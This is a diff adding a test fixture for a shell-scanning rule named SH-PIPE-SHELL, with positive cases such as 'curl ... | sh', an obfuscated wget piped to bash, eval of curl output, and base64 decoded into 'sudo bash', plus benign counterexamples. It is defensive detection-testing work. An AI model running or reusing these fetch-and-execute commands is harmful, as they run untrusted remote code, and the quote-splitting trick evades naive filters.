@@ -1,0 +1,12 @@
+# ruleid: SH-PIPE-SHELL
+curl http://example.com/i.sh | sh
+# ruleid: SH-PIPE-SHELL
+bash <(wg""et -qO- http://example.com)
+# ruleid: SH-PIPE-SHELL
+eval "$(curl -s example.com)"
+# ruleid: SH-PIPE-SHELL
+echo aWQ= | base64 -d | sudo bash
+# ok: SH-PIPE-SHELL
+curl -s http://example.com | head
+# ok: SH-PIPE-SHELL
+echo "curl http://example.com | sh"
